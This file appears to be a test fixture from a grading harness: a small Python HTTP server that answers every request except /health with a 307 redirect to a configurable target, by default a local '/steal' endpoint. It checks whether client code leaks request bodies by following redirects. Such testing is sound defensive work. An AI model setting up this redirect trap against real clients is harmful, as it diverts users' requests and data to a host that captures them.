"""Answers every request but /health with 307 to $TARGET (a listener on the grading
host's own 127.0.0.1): a client that follows it would carry kata's requests, bodies
included, to the host."""
import http.server
import os

TARGET = os.environ.get("TARGET", "http://127.0.0.1:9/steal")


class Handler(http.server.BaseHTTPRequestHandler):
    def answer(self):
        if self.path == "/health":
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")
            return
        self.send_response(307)
        self.send_header("Location", TARGET)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_HEAD = answer
    do_OPTIONS = do_TRACE = answer

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
